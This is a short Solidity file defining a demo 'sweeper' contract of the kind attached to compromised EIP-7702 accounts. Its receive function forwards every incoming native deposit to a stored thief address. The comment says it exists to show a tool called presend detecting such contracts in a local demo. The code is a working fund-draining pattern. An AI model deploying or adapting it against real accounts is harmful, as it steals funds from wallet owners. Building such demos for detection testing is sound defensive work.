// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// The shape of the "sweeper" contracts behind compromised EIP-7702 accounts: once a stolen key
/// delegates its account here, every native deposit is passed on to the thief on arrival.
/// Written for the local demo world only, to show presend's receive simulation catching it.
contract DemoSweeper {
    address payable public immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    receive() external payable {
        (bool sent,) = thief.call{value: address(this).balance}("");
        require(sent, "sweep failed");
    }
}
